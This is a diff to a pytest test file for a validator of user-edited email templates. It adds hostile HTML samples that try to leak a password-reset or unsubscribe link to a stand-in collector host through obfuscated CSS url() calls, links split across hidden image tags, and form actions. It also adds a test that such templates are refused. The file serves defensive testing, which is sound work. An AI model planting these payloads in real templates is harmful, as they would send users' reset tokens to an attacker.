@@ -27,6 +27,7 @@ HTML = {
     "dangling tag": f"<p>{{{{ reset_url }}}}</p><img src='{TO}/? <p>{{{{ reset_url }}}}</p>'>",
     "style": f'<p style="background: url({TO}/?{{{{ reset_url }}}})">x</p>',
     "style without a secret": f'<p style="background: url({TO})">x</p>',
+    "style in pieces": f'<p style="background: u/**/rl({TO})">x</p>',
     "style escaped": f'<p style="background: \\75 rl({TO})">x</p>',
     "sheet": f"<style>p {{background: url({TO}/?{{{{ reset_url }}}})}}</style>",
     "import": f"<style>@import '{TO}/x.css';</style>",
@@ -56,6 +57,8 @@ HTML = {
     "template": f'<template><img src="{TO}"></template>',
     "joined": f"<p>{TO}/?x={{{{ reset_url }}}}</p>",
     "joined over tags": f"<p>{TO}/?x=<b>{{{{ reset_url }}}}</b></p>",
+    "joined over an image": f"<p>{TO}/?x=<img alt='' hidden>{{{{ reset_url }}}}</p>",
+    "joined behind, over an image": "<p>{{ reset_url }}<img hidden>.collector.invalid</p>",
     "joined by a blank that is none": f"<p>{TO}/?x=&#8203;{{{{ reset_url }}}}</p>",
     "in angle brackets": f"<p>&lt;{TO}/?x= {{{{ reset_url }}}} &gt;</p>",
     "filtered": "<p>{{ reset_url|urlencode }}</p>",
@@ -132,6 +135,14 @@ def test_a_secret_stands_as_text_or_as_a_whole_link(part, body):
     mail = render.render(kind, render.sample(kind), language="en")
     assert mail.source.startswith("override:")
     assert f"{settings.APP_URL}/forgot-password/reset?{SECRET}" in getattr(mail, part)
+
+
+@pytest.mark.parametrize("tag", ["textarea", "option", "script"])
+def test_a_form_takes_no_link_of_an_unsubscription(tag):
+    body = f'<form action="{TO}"><{tag} name="t">\n{{{{ unsubscribe_url }}}}\n</{tag}></form>'
+
+    with pytest.raises(overrides.InvalidTemplate, match=f"must not stand in {tag}"):
+        overrides.save(registry.get("notifications.announcement"), language="en", bodies={"html": body}, by=None)
 
 
 def test_what_is_shown_to_some_alone_is_refused_when_it_is_theirs(mailoutbox):
